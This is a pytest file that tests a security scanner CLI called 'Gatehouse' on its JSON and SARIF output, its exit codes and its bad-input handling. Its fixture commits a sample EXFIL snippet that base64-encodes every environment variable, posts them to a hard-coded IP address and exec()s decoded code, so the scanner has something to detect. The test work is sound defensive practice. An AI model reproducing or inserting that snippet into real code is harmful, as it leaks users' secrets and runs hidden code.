"""`gatehouse scan`, `eval` and `rules` as a user runs them."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
GATEHOUSE = [sys.executable, "-m", "reviewer.cli"]


def run(
    *args: str, stdin: bytes | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess:
    env = dict(os.environ, NO_COLOR="1")
    proc = subprocess.run(
        [*GATEHOUSE, *args], input=stdin, capture_output=True, cwd=cwd or REPO, env=env, timeout=120
    )
    return subprocess.CompletedProcess(
        proc.args,
        proc.returncode,
        proc.stdout.decode("utf-8", "replace"),
        proc.stderr.decode("utf-8", "replace"),
    )


def git(repo: Path, *args: str) -> str:
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.invalid",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.invalid",
    )
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env
    ).stdout.strip()


EXFIL = (
    "import os, base64, requests\n\n"
    "def sync():\n"
    "    blob = base64.b64encode(str(dict(os.environ)).encode())\n"
    "    requests.post('http://203.0.113.9:8080/c', data=blob)\n"
    "    exec(base64.b64decode('cHJpbnQoMSk='))\n"
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    r.mkdir()
    git(r, "init", "-q", "-b", "main")
    (r / "app.py").write_text("def main():\n    return 0\n")
    git(r, "add", ".")
    git(r, "commit", "-q", "-m", "base")
    (r / "app.py").write_text("def main():\n    return 0\n\n" + EXFIL)
    (r / "tests").mkdir()
    (r / "tests" / "test_app.py").write_text(EXFIL)
    git(r, "add", ".")
    git(r, "commit", "-q", "-m", "head")
    return r


def test_scan_git_range_json_contract(repo: Path):
    proc = run(
        "scan", "--repo", str(repo), "--base", "HEAD~1", "--head", "HEAD", "--format", "json"
    )
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert set(doc) >= {"findings", "skipped", "stats"}
    for f in doc["findings"]:
        assert set(f) >= {
            "rule_id",
            "category",
            "severity",
            "confidence",
            "path",
            "start_line",
            "end_line",
            "message",
            "fingerprint",
        }
    assert doc["stats"]["added_lines"] == 13  # 7 in app.py, 6 in tests/test_app.py


def test_fail_on_sets_the_exit_code(repo: Path, tmp_path: Path):
    diff = git(repo, "diff", "HEAD~1", "HEAD") + "\n"
    p = tmp_path / "c.diff"
    p.write_text(diff)
    doc = json.loads(run("scan", "--diff", str(p), "--format", "json").stdout)
    worst = max(
        (f["severity"] for f in doc["findings"]),
        key=["info", "low", "medium", "high", "critical"].index,
        default=None,
    )
    proc = run("scan", "--diff", str(p), "--fail-on", "info")
    assert proc.returncode == (1 if worst else 0)
    assert run("scan", "--diff", str(p), "--fail-on", "bogus").returncode == 2


def test_scan_reads_stdin_and_prints_text(repo: Path):
    diff = git(repo, "diff", "HEAD~1", "HEAD").encode() + b"\n"
    proc = run("scan", "--diff", "-", stdin=diff)
    assert proc.returncode == 0
    assert "added lines" in proc.stdout


def test_sarif_is_2_1_0_with_security_severity(repo: Path):
    proc = run(
        "scan", "--repo", str(repo), "--base", "HEAD~1", "--head", "HEAD", "--format", "sarif"
    )
    doc = json.loads(proc.stdout)
    assert doc["version"] == "2.1.0"
    run_ = doc["runs"][0]
    assert run_["tool"]["driver"]["name"] == "Gatehouse"
    for rule in run_["tool"]["driver"]["rules"]:
        assert float(rule["properties"]["security-severity"]) > 0


@pytest.mark.parametrize(
    "content,expect",
    [
        (b"", "empty diff"),
        (b"just some words\n", "no file headers"),
        (b"\x00\x01\x02\x03" * 100, "binary"),
    ],
)
def test_bad_input_gets_a_clear_message_and_no_crash(tmp_path: Path, content: bytes, expect: str):
    p = tmp_path / "input.diff"
    p.write_bytes(content)
    proc = run("scan", "--diff", str(p))
    assert "Traceback" not in proc.stderr
    assert expect in proc.stderr
    assert proc.returncode in (0, 3)


def test_missing_file_and_bad_range(tmp_path: Path, repo: Path):
    proc = run("scan", "--diff", str(tmp_path / "nope.diff"))
    assert proc.returncode == 3 and "no such file" in proc.stderr
    proc = run("scan", "--repo", str(repo), "--base", "does-not-exist", "--head", "HEAD")
    assert proc.returncode == 3 and "Traceback" not in proc.stderr
    proc = run("scan", "--repo", str(tmp_path), "--base", "a", "--head", "b")
    assert proc.returncode == 3 and "not a git repository" in proc.stderr


def test_rules_catalogue_lists_every_rule():
    proc = run("rules", "--format", "json")
    assert proc.returncode == 0
    rules = json.loads(proc.stdout)
    ids = [r["id"] for r in rules]
    assert len(ids) == len(set(ids))
    for r in rules:
        assert r["category"] and r["severity"] and r["rationale"]
